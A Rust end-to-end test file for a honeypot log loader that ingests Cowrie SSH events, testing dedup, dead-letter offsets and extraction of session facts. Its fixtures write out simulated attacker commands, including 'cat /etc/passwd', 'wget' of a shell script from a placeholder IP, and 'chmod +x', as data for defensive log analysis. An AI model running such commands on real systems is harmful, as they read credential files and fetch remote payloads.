//! End-to-end loader scenarios against a real on-disk store.

use cp_config::CoreConfig;
use cp_ingest::{BulkLoader, DeltaLoader};
use cp_store::{migrate, DeadLetterReason, DeadLetterRepo, RawEventRepo, SessionRepo, Store};
use std::io::Write;
use std::path::PathBuf;

fn prepare(dir: &tempfile::TempDir) -> CoreConfig {
    let mut config = CoreConfig::rooted_at(dir.path());
    config.ingest.batch_size = 50;
    config.ingest.batch_flush_secs = 1;
    config.ingest.parser_workers = 2;
    let mut store = Store::open(&config.database_path).unwrap();
    migrate::migrate(&mut store, "e2e-setup").unwrap();
    config
}

fn pretty_event(session: &str, input: &str) -> String {
    // ~20 lines once pretty-printed.
    serde_json::to_string_pretty(&serde_json::json!({
        "eventid": "cowrie.command.input",
        "timestamp": "2026-07-30T12:00:00Z",
        "session": session,
        "src_ip": "203.0.113.9",
        "input": input,
        "input_safe": input,
        "sensor": "honeypot-ams-01",
        "protocol": "ssh",
        "extra": {
            "ttylog": "var/lib/cowrie/tty/abc",
            "width": 80,
            "height": 24,
            "duration_hint": 1.5,
            "flags": ["interactive", "pty"],
            "client": {"version": "SSH-2.0-libssh2_1.9.0", "kex": "curve25519-sha256"}
        }
    }))
    .unwrap()
}

fn line_event(session: &str, seq: usize) -> String {
    format!(
        r#"{{"eventid":"cowrie.session.connect","timestamp":"2026-07-30T12:{:02}:{:02}Z","session":"{session}","src_ip":"203.0.113.9"}}"#,
        seq / 60,
        seq % 60
    )
}

fn write_bz2(dir: &tempfile::TempDir, name: &str, content: &str) -> PathBuf {
    let path = dir.path().join(name);
    let file = std::fs::File::create(&path).unwrap();
    let mut encoder = bzip2::write::BzEncoder::new(file, bzip2::Compression::default());
    encoder.write_all(content.as_bytes()).unwrap();
    encoder.finish().unwrap();
    path
}

#[test]
fn pretty_printed_bzip2_archive_with_multiline_enabled() {
    let dir = tempfile::tempdir().unwrap();
    let mut config = prepare(&dir);
    config.ingest.multiline_json = true;

    let content = format!(
        "{}\n{}\n",
        pretty_event("abc123", "uname -a"),
        pretty_event("abc123", "cat /etc/passwd")
    );
    let path = write_bz2(&dir, "cowrie.json.bz2", &content);

    let mut loader = BulkLoader::new(config.clone(), "ing-e2e".into()).unwrap();
    let report = loader.run(&[path]).unwrap();
    assert_eq!(report.stats.events_inserted, 2);
    assert_eq!(report.stats.dead_letters, 0);

    let store = Store::open(&config.database_path).unwrap();
    assert_eq!(RawEventRepo::count(store.conn()).unwrap(), 2);
    assert_eq!(SessionRepo::count(store.conn()).unwrap(), 1);
    assert_eq!(DeadLetterRepo::total(store.conn()).unwrap(), 0);
}

#[test]
fn pretty_printed_archive_refused_without_multiline() {
    let dir = tempfile::tempdir().unwrap();
    let config = prepare(&dir);

    let content = format!("{}\n", pretty_event("abc123", "uname -a"));
    let path = write_bz2(&dir, "cowrie.json.bz2", &content);

    let mut loader = BulkLoader::new(config.clone(), "ing-e2e".into()).unwrap();
    let report = loader.run(&[path]).unwrap();
    assert_eq!(report.stats.events_inserted, 0);
    assert!(report.stats.dead_letters >= 1);

    let store = Store::open(&config.database_path).unwrap();
    assert_eq!(RawEventRepo::count(store.conn()).unwrap(), 0);
    assert!(DeadLetterRepo::total(store.conn()).unwrap() >= 1);
}

#[test]
fn mixed_line_and_pretty_input() {
    let dir = tempfile::tempdir().unwrap();
    let mut config = prepare(&dir);
    config.ingest.multiline_json = true;

    let mut content = String::new();
    for i in 0..100 {
        content.push_str(&line_event("mix01", i));
        content.push('\n');
    }
    content.push_str(&pretty_event("mix01", "wget http://203.0.113.50/x.sh"));
    content.push('\n');
    content.push_str(&pretty_event("mix01", "chmod +x x.sh"));
    content.push('\n');

    let path = dir.path().join("mixed.json");
    std::fs::write(&path, &content).unwrap();

    let mut loader = BulkLoader::new(config.clone(), "ing-e2e".into()).unwrap();
    let report = loader.run(&[path]).unwrap();
    assert_eq!(report.stats.events_parsed, 102);
    assert_eq!(report.stats.events_inserted, 102);
    assert_eq!(report.stats.dead_letters, 0);

    let store = Store::open(&config.database_path).unwrap();
    assert_eq!(RawEventRepo::count(store.conn()).unwrap(), 102);
}

#[test]
fn duplicate_replay_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let config = prepare(&dir);

    let content: String = (0..10)
        .map(|i| format!("{}\n", line_event("dup01", i)))
        .collect();
    let path = dir.path().join("cowrie.json");
    std::fs::write(&path, &content).unwrap();

    let mut loader = BulkLoader::new(config.clone(), "ing-a".into()).unwrap();
    loader.run(std::slice::from_ref(&path)).unwrap();

    let store = Store::open(&config.database_path).unwrap();
    let before = SessionRepo::get(store.conn(), "dup01").unwrap().unwrap();
    drop(store);

    let second = loader.run(std::slice::from_ref(&path)).unwrap();
    assert_eq!(second.stats.events_inserted, 0);
    assert_eq!(second.stats.duplicates, 10);

    let store = Store::open(&config.database_path).unwrap();
    assert_eq!(RawEventRepo::count(store.conn()).unwrap(), 10);
    let after = SessionRepo::get(store.conn(), "dup01").unwrap().unwrap();
    assert_eq!(after.event_count, before.event_count);
    assert_eq!(after.first_event_at, before.first_event_at);
    assert_eq!(after.last_event_at, before.last_event_at);
}

#[test]
fn dead_letter_rows_match_failure_offsets() {
    let dir = tempfile::tempdir().unwrap();
    let config = prepare(&dir);

    let good = line_event("dl01", 0);
    let torn = "{torn json";
    let content = format!("{good}\n{torn}\n");
    let path = dir.path().join("cowrie.json");
    std::fs::write(&path, &content).unwrap();
    let source = std::fs::canonicalize(&path).unwrap().display().to_string();

    let mut loader = BulkLoader::new(config.clone(), "ing-a".into()).unwrap();
    let report = loader.run(&[path]).unwrap();
    assert_eq!(report.stats.dead_letters, 1);

    // The torn line starts right after the good line and its newline.
    let torn_offset = (good.len() + 1) as i64;
    let store = Store::open(&config.database_path).unwrap();
    assert!(DeadLetterRepo::exists(
        store.conn(),
        &source,
        torn_offset,
        DeadLetterReason::Parse
    )
    .unwrap());
}

#[test]
fn bulk_and_delta_share_raw_log_but_not_checkpoints() {
    let dir = tempfile::tempdir().unwrap();
    let config = prepare(&dir);

    let content: String = (0..6)
        .map(|i| format!("{}\n", line_event("s1", i)))
        .collect();
    let path = dir.path().join("cowrie.json");
    std::fs::write(&path, &content).unwrap();

    let mut bulk = BulkLoader::new(config.clone(), "ing-a".into()).unwrap();
    bulk.run(std::slice::from_ref(&path)).unwrap();

    // The delta loader has its own checkpoint phase, so it re-reads the
    // file; dedup keeps the log unchanged.
    let mut delta = DeltaLoader::new(config.clone(), "ing-b".into()).unwrap();
    let report = delta.run(std::slice::from_ref(&path)).unwrap();
    assert_eq!(report.stats.events_parsed, 6);
    assert_eq!(report.stats.events_inserted, 0);
    assert_eq!(report.stats.duplicates, 6);

    let store = Store::open(&config.database_path).unwrap();
    assert_eq!(RawEventRepo::count(store.conn()).unwrap(), 6);
}

#[test]
fn facts_extracted_during_ingest() {
    let dir = tempfile::tempdir().unwrap();
    let config = prepare(&dir);

    let content = concat!(
        r#"{"eventid":"cowrie.session.connect","timestamp":"2026-07-30T12:00:00Z","session":"f1","src_ip":"203.0.113.9"}"#,
        "\n",
        r#"{"eventid":"cowrie.login.failed","timestamp":"2026-07-30T12:00:01Z","session":"f1","username":"root","password":"123456"}"#,
        "\n",
        r#"{"eventid":"cowrie.client.fingerprint","timestamp":"2026-07-30T12:00:02Z","session":"f1","src_ip":"203.0.113.9","fingerprint":"SHA256:abcdef","key_type":"ssh-rsa","key":"AAAAB3...","bits":2048}"#,
        "\n",
        r#"{"eventid":"cowrie.session.file_download","timestamp":"2026-07-30T12:00:03Z","session":"f1","url":"http://203.0.113.50/bot.sh","shasum":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","size":1337}"#,
        "\n"
    );
    let path = dir.path().join("cowrie.json");
    std::fs::write(&path, content).unwrap();

    let mut loader = BulkLoader::new(config.clone(), "ing-a".into()).unwrap();
    let report = loader.run(&[path]).unwrap();
    assert_eq!(report.stats.events_inserted, 4);

    let store = Store::open(&config.database_path).unwrap();
    let summary = SessionRepo::get(store.conn(), "f1").unwrap().unwrap();
    assert_eq!(summary.login_attempts, 1);
    assert_eq!(summary.file_downloads, 1);
    assert_eq!(summary.ssh_key_injections, 1);
    assert_eq!(summary.unique_ssh_keys, 1);
    assert_eq!(summary.source_ip.as_deref(), Some("203.0.113.9"));

    assert_eq!(cp_store::SshKeyRepo::count(store.conn()).unwrap(), 1);
    let artifact = cp_store::FileArtifactRepo::get(
        store.conn(),
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    )
    .unwrap()
    .unwrap();
    assert_eq!(artifact.size, Some(1337));
    assert_eq!(artifact.url_samples, vec!["http://203.0.113.50/bot.sh"]);

    // Password stored hashed only under the default policy.
    let hash = cp_common::sha256_hex(b"123456");
    let (times, sessions, _) = cp_store::PasswordRepo::stats(store.conn(), &hash)
        .unwrap()
        .unwrap();
    assert_eq!(times, 1);
    assert_eq!(sessions, 1);
    assert!(!cp_store::PasswordRepo::has_cleartext(store.conn(), &hash).unwrap());
}
